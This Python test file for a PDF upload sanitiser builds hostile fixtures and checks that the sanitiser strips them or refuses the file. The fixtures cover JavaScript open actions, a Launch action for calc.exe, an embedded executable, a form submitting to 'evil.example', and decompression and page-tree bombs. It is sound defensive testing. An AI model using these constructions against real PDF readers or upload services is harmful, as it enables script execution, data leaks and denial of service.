# Licence LGPL-3 (see LICENSE).

import io
import struct
import zlib

import pikepdf
import pytest
import scans
from itcom_core.uploads import (
    Limits,
    admit,
    errors,
    inspect,
    look,
    pdf,
    process,
    rotate,
)
from itcom_core.uploads.limits import DEFAULT_LIMITS
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

PHOTO = scans.encode(scans.print_page(), quality=85)


def javascript(pdf):
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def open_action(pdf):
    pdf.Root.OpenAction = javascript(pdf)


def launch_by_a_link(pdf):
    action = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe")))
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=action)])


def script_behind_a_harmless_action(pdf):
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=javascript(pdf))
    pdf.Root.OpenAction = goto


def script_in_the_names(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", javascript(pdf)])))


def action_on_opening_a_page(pdf):
    pdf.pages[0].AA = Dictionary(O=javascript(pdf))


def file_within(pdf):
    body = pdf.make_indirect(Stream(pdf, b"MZ secret program"))
    entry = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=body))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["a.exe", entry])))


def form_that_sends(pdf):
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))
    field = pdf.make_indirect(Dictionary(FT=Name.Btn, Subtype=Name.Widget, A=action))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Array([]))


ACTIVE = [
    open_action,
    launch_by_a_link,
    script_behind_a_harmless_action,
    script_in_the_names,
    action_on_opening_a_page,
    file_within,
    form_that_sends,
]
ACTIVE_MARKS = (b"JavaScript", b"/JS", b"Launch", b"SubmitForm", b"/XFA", b"/EF", b"secret program")


def test_a_plain_pdf_is_stored_as_it_came():
    data = scans.make_pdf(3)
    upload = inspect(data, "Выписка ЕГРЮЛ.PDF")
    assert upload.data == data
    assert (upload.kind, upload.mimetype, upload.pages) == ("pdf", "application/pdf", 3)
    assert (upload.clean_name, upload.warnings) == ("Выписка ЕГРЮЛ.pdf", ())
    assert (upload.width, upload.height, upload.preview) == (0, 0, None)


def test_a_scanned_pdf_shows_its_first_page():
    data = scans.make_pdf(2, picture=PHOTO)
    assert max(Image.open(io.BytesIO(inspect(data).preview)).size) == 320


def test_a_scan_whose_one_filter_stands_in_a_list_is_shown_as_well():
    def change(pdf):
        pdf.pages[0].Resources.XObject.Scan.stream_dict.Filter = Array([Name.DCTDecode])

    assert inspect(scans.make_pdf(1, change, picture=PHOTO)).preview


def test_a_look_at_a_pdf_can_wait():
    upload = admit(scans.make_pdf(picture=scans.encode(scans.print_page())))
    assert upload.preview is None and upload.picture
    assert look(upload.data).preview == inspect(upload.data).preview
    assert not admit(scans.make_pdf()).picture


def test_a_picture_in_a_pdf_that_cannot_be_decoded_is_no_preview_and_no_harm():
    data = scans.make_pdf(1, picture=PHOTO).replace(b"\xff\xc0", b"\xff\xc5")
    assert inspect(data).preview is None


def test_pictures_of_one_length_are_not_taken_for_each_other():
    other = PHOTO.replace(b"JFIF", b"JFXX")

    def put_another_first(file):
        file.Root.Before = Stream(file, other, Filter=Name.DCTDecode)

    data = scans.make_pdf(1, put_another_first, picture=PHOTO)
    assert 0 < data.index(other) < data.index(PHOTO)
    assert pdf.examine(data, DEFAULT_LIMITS).picture == PHOTO


def written_out(data):
    """The same PDF with everything in it unpacked, as a search sees it."""
    stream = io.BytesIO()
    scans.open_pdf(data).save(
        stream,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        stream_decode_level=pikepdf.StreamDecodeLevel.all,
    )
    return stream.getvalue()


@pytest.mark.parametrize("change", ACTIVE)
def test_active_content_is_taken_out(change):
    upload = inspect(scans.make_pdf(2, change))
    assert upload.warnings == ("active_content_removed",)
    assert not [mark for mark in ACTIVE_MARKS if mark in written_out(upload.data)]
    assert len(scans.open_pdf(upload.data).pages) == 2


def test_active_content_does_not_hide_in_packed_objects():
    def change(pdf):
        for activate in ACTIVE:
            activate(pdf)

    packed = pikepdf.ObjectStreamMode.generate
    data = scans.make_pdf(1, change, object_stream_mode=packed)
    assert b"JavaScript" not in data and b"JavaScript" in written_out(data)
    upload = inspect(data)
    assert not [mark for mark in ACTIVE_MARKS if mark in written_out(upload.data)]
    assert inspect(upload.data).warnings == ()


def test_a_link_and_a_place_to_open_at_are_harmless():
    def change(pdf):
        link = Dictionary(S=Name.URI, URI=String("https://romashka.example"))
        pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=link)])
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])

    assert inspect(scans.make_pdf(1, change)).warnings == ()


@pytest.mark.parametrize("user, owner", [("secret", "secret"), ("", "owner")])
def test_a_password_or_restrictions_are_refused(user, owner):
    with pytest.raises(errors.Encrypted):
        inspect(scans.make_pdf(1, encryption=pikepdf.Encryption(user=user, owner=owner)))


def test_too_many_pages():
    with pytest.raises(errors.TooManyPages) as caught:
        inspect(scans.make_pdf(4), limits=Limits(max_pages=3))
    assert caught.value.params == {"limit": 3, "pages": 4}


def test_too_many_objects():
    def change(pdf):
        pdf.Root.Junk = Array([pdf.make_indirect(Dictionary()) for _ in range(100)])

    with pytest.raises(errors.Bomb) as caught:
        inspect(scans.make_pdf(1, change), limits=Limits(max_pdf_objects=50))
    assert caught.value.params == {"limit": 50, "unit": "objects"}


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9])
def test_a_pdf_that_was_cut_off_is_broken(share):
    data = scans.make_pdf(3, picture=PHOTO)
    with pytest.raises(errors.Broken):
        inspect(data[: int(len(data) * share)])


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n%%EOF",
        b"%PDF-1.4\n" + b"PK\x03\x04 a zip with a mask on" * 10 + b"%%EOF",
        scans.make_pdf(0),
        b"%PDF-1.4\n" + b"[" * 100_000 + b"\n%%EOF",
    ],
)
def test_a_pdf_without_pages_is_broken(data):
    with pytest.raises(errors.Broken):
        inspect(data)


def test_damaged_tables_are_mended():
    data = scans.make_pdf(2)
    damaged = data.replace(b"startxref\n", b"startxref\n9")
    upload = inspect(damaged)
    assert (upload.warnings, upload.pages) == (("repaired",), 2)
    assert inspect(upload.data).warnings == ()


def test_what_hides_behind_the_end_goes():
    data = scans.make_pdf(1)
    assert inspect(data + b"PK\x03\x04 a zip").data.endswith(b"%%EOF\n")


def pages_that_share_their_children(levels=40):
    """A tree of pages that would have 2^40 leaves."""
    objects = ["1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj"]
    for number in range(2, levels + 2):
        child = f"{number + 1} 0 R"
        objects.append(f"{number} 0 obj <</Type/Pages/Count 2/Kids[{child} {child}]>> endobj")
    objects.append(f"{levels + 2} 0 obj <</Type/Page/MediaBox[0 0 9 9]>> endobj")
    body = "\n".join(objects)
    return f"%PDF-1.4\n{body}\ntrailer <</Root 1 0 R/Size {levels + 3}>>\n%%EOF".encode()


def packed_objects(megabytes):
    """A PDF of one page and an object that unpacks to so much, from a thousandth of it."""
    packed = zlib.compress(b"5 0 [" + b"0 " * (megabytes * 512 * 1024) + b"]", 9)
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/Junk 5 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    # Cross-reference entries: type, position or number of the stream of objects, index in it.
    data, entries = b"%PDF-1.5\n", [struct.pack(">BIB", 0, 0, 0)]
    for number, body in bodies.items():
        entries.append(struct.pack(">BIB", 1, len(data), 0))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    entries += [struct.pack(">BIB", 2, 4, 0), struct.pack(">BIB", 1, len(data), 0)]
    table = b"".join(entries)
    head = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    return data + b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        head,
        table,
        len(data),
    )


def test_a_tree_of_pages_that_never_ends_is_refused(monkeypatch):
    monkeypatch.setattr(process, "CPU_SECONDS", 1)
    with pytest.raises(errors.Bomb) as caught:
        inspect(pages_that_share_their_children())
    assert caught.value.params == {"limit": 1, "unit": "seconds"}


def test_a_pdf_that_unpacks_to_too_much_memory_is_refused(monkeypatch):
    monkeypatch.setattr(process, "MEMORY_LIMIT", 256 * 1024 * 1024)
    assert inspect(packed_objects(megabytes=0)).warnings == ()
    data = packed_objects(megabytes=64)
    assert len(data) < 100_000
    with pytest.raises(errors.Bomb) as caught:
        inspect(data)
    assert caught.value.params["unit"] == "bytes"


MEGABYTE = 1024 * 1024
ONE_MEGABYTE = Limits(max_pdf_stream=MEGABYTE)
TWO_MEGABYTES = zlib.compress(bytes(2 * MEGABYTE), 9)
LARGE_HEAD = PHOTO.replace(b"\x03\x84\x04\xb0", b"\xea\x60\xea\x60")
JPEG_2000 = b"\xff\x4f\xff\x51" + struct.pack(">HHIIII", 47, 0, 60_000, 60_000, 0, 0)


@pytest.mark.parametrize(
    "data, filters",
    [
        (TWO_MEGABYTES, ["FlateDecode"]),
        (TWO_MEGABYTES, ["Fl"]),
        (zlib.compress(TWO_MEGABYTES), ["FlateDecode", "FlateDecode"]),
        (TWO_MEGABYTES, ["FlateDecode", "DCTDecode"]),
        (TWO_MEGABYTES.hex().encode() + b">", ["ASCIIHexDecode", "FlateDecode"]),
        (LARGE_HEAD, ["DCTDecode"]),
        (b"a" + LARGE_HEAD, ["DCTDecode"]),
        (JPEG_2000, ["JPXDecode"]),
    ],
)
def test_a_picture_that_would_unpack_to_too_much_is_refused(data, filters):
    assert LARGE_HEAD != PHOTO
    with pytest.raises(errors.Bomb) as caught:
        inspect(scans.pdf_of_stream(data, filters), limits=ONE_MEGABYTE)
    assert caught.value.params["unit"] in ("bytes", "pixels")
    assert caught.value.params["limit"] in (MEGABYTE, DEFAULT_LIMITS.max_pixels)


def test_no_stream_unpacks_to_more_than_a_coloured_page_takes():
    data = scans.pdf_of_stream(zlib.compress(bytes(200 * MEGABYTE + 1)), ["FlateDecode"])
    with pytest.raises(errors.Bomb) as caught:
        inspect(data)
    assert caught.value.params == {"limit": 200 * MEGABYTE, "unit": "bytes"}


def test_a_picture_that_says_it_is_too_large_is_refused():
    with pytest.raises(errors.Bomb):
        inspect(scans.pdf_of_stream(b"", ["CCITTFaxDecode"], 60_000, 60_000))


def test_a_drawing_that_would_unpack_to_too_much_is_refused():
    def change(pdf):
        pdf.pages[0].Contents = Stream(pdf, b" " * (MEGABYTE + 1))

    data = scans.make_pdf(change=change)
    assert len(data) < MEGABYTE
    with pytest.raises(errors.Bomb):
        inspect(data, limits=ONE_MEGABYTE)


@pytest.mark.parametrize("filters", [["FlateDecode"], ["ASCIIHexDecode", "FlateDecode"]])
def test_large_scans_are_taken(filters):
    data = zlib.compress(bytes(100 * MEGABYTE))
    data = data.hex().encode() + b">" if len(filters) > 1 else data
    assert inspect(scans.pdf_of_stream(data, filters, 5000, 7000)).warnings == ()


def test_a_damaged_stream_is_counted_to_its_damage():
    data = zlib.compress(bytes(1000))[:-5] + b"nonsense"
    assert inspect(scans.pdf_of_stream(data, ["FlateDecode"])).warnings == ()


def test_a_pdf_that_takes_too_much_time_is_refused(monkeypatch):
    monkeypatch.setattr(process, "WALL_SECONDS", 0.3)
    with pytest.raises(errors.Bomb) as caught:
        inspect(pages_that_share_their_children())
    assert caught.value.params == {"limit": 0.3, "unit": "seconds"}


def test_a_missing_library_is_not_blamed_on_the_file():
    with pytest.raises(RuntimeError, match="no_such_task"):
        process.run("no_such_task", {}, b"")


@pytest.mark.parametrize("degrees, rotation", [(90, 90), (-90, 270), (180, 180)])
def test_all_pages_of_a_pdf_turn_clockwise(degrees, rotation):
    turned = scans.open_pdf(rotate(scans.make_pdf(2), degrees))
    assert [int(page.Rotate) for page in turned.pages] == [rotation] * 2


def test_turns_of_a_pdf_add_up():
    turned = scans.open_pdf(rotate(rotate(scans.make_pdf(1), 90), 270))
    assert int(turned.pages[0].Rotate) % 360 == 0
